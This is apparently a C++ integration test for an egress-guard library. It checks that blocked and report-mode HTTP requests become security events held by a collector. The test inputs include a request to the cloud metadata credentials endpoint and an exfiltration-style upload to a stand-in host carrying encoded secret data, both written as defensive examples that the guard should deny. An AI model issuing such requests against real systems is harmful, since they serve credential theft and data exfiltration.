// End to end: guard.http() denials (and report-mode flags) become security
// events that reach a real `fnguard collector` process and its store.
#include <arpa/inet.h>
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#include <chrono>
#include <cstdlib>
#include <filesystem>
#include <string>
#include <thread>
#include <vector>

#include "fnguard/fnguard.h"
#include "tests/integration/collector_process.h"

namespace fnguard {
namespace {

using V1Event = ::fnguard::v1::SecurityEvent;

class EgressEventsTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto help = testing::RunCommand(testing::Quote(testing::FnguardBinary()) +
                                    " collector --help >/dev/null 2>&1; echo $?");
    if (help.out != "0\n") GTEST_SKIP() << "this build has no 'collector' command";
    char tmpl[] = "/tmp/fnguard-egress-events-XXXXXX";
    ASSERT_NE(mkdtemp(tmpl), nullptr);
    dir_ = tmpl;
  }
  void TearDown() override {
    if (!dir_.empty()) std::filesystem::remove_all(dir_);
  }

  std::string Reporting(const testing::CollectorProcess& collector) const {
    return "reporting:\n  otlp_endpoint: " + collector.endpoint() + "\n  spool_dir: " + dir_ +
           "/spool\n";
  }

  std::string dir_;
};

TEST_F(EgressEventsTest, DeniedRequestsAreStoredAtTheCollector) {
  testing::CollectorProcess collector(dir_ + "/events.db");
  ASSERT_GT(collector.port(), 0);
  auto guard = Guard::FromString("version: 1\negress:\n  allow:\n    - {host: api.example.com}\n" +
                                     Reporting(collector),
                                 "egress_events.yaml");
  ASSERT_TRUE(guard.ok()) << guard.status().ToString();

  HttpResult metadata =
      (*guard)->http().Get("http://169.254.169.254/latest/meta-data/iam/security-credentials/");
  ASSERT_FALSE(metadata.ok());
  EXPECT_EQ(metadata.error().kind, HttpErrorKind::kDenied);
  HttpResult unlisted = (*guard)->http().Get("https://exfil.example.org/upload?data=c2VjcmV0");
  ASSERT_FALSE(unlisted.ok());
  EXPECT_EQ(unlisted.error().kind, HttpErrorKind::kDenied);
  (*guard)->Flush(5000);

  std::vector<V1Event> events = collector.WaitForEvents(2);
  ASSERT_EQ(events.size(), 2u);
  const V1Event* meta = nullptr;
  const V1Event* exfil = nullptr;
  for (const V1Event& e : events) {
    if (e.host() == "169.254.169.254") meta = &e;
    if (e.host() == "exfil.example.org") exfil = &e;
  }
  ASSERT_NE(meta, nullptr);
  ASSERT_NE(exfil, nullptr);
  EXPECT_EQ(meta->kind(), V1Event::EGRESS);
  EXPECT_EQ(meta->action(), "block");
  EXPECT_EQ(meta->detector(), "egress");
  EXPECT_EQ(meta->rule_id(), metadata.error().rule);
  EXPECT_EQ(meta->excerpt(), "http://169.254.169.254/latest/meta-data/iam/security-credentials/");
  EXPECT_NE(meta->reason().find(metadata.error().message), std::string::npos) << meta->reason();
  EXPECT_EQ(meta->policy_source(), "egress_events.yaml");
  EXPECT_EQ(exfil->rule_id(), "default-deny");
  EXPECT_EQ(exfil->excerpt(), "https://exfil.example.org/upload");  // no query string
}

TEST_F(EgressEventsTest, ReportModeConnectsAndStoresAMonitorEvent) {
  testing::CollectorProcess collector(dir_ + "/events.db");
  ASSERT_GT(collector.port(), 0);
  // A loopback listener that never answers: the request connects, then
  // times out. Its loopback address would be denied in enforce mode.
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  ASSERT_GE(fd, 0);
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  ASSERT_EQ(bind(fd, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)), 0);
  ASSERT_EQ(listen(fd, 4), 0);
  socklen_t len = sizeof(addr);
  ASSERT_EQ(getsockname(fd, reinterpret_cast<sockaddr*>(&addr), &len), 0);
  const std::string port = std::to_string(ntohs(addr.sin_port));

  auto guard = Guard::FromString("version: 1\negress:\n  mode: report\n  allow:\n    - {host: localhost, ports: [" +
                                     port + "], schemes: [http]}\n" + Reporting(collector),
                                 "report_mode.yaml");
  ASSERT_TRUE(guard.ok()) << guard.status().ToString();
  HttpOptions quick;
  quick.timeout = std::chrono::milliseconds(300);
  HttpResult r = (*guard)->http().Get("http://localhost:" + port + "/", quick);
  close(fd);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().kind, HttpErrorKind::kTimeout) << r.error().message;  // it did connect
  (*guard)->Flush(5000);

  std::vector<V1Event> events = collector.WaitForEvents(1);
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].kind(), V1Event::EGRESS);
  EXPECT_EQ(events[0].action(), "monitor");
  EXPECT_EQ(events[0].host(), "localhost");
  EXPECT_NE(events[0].reason().find("loopback"), std::string::npos) << events[0].reason();
}

}  // namespace
}  // namespace fnguard
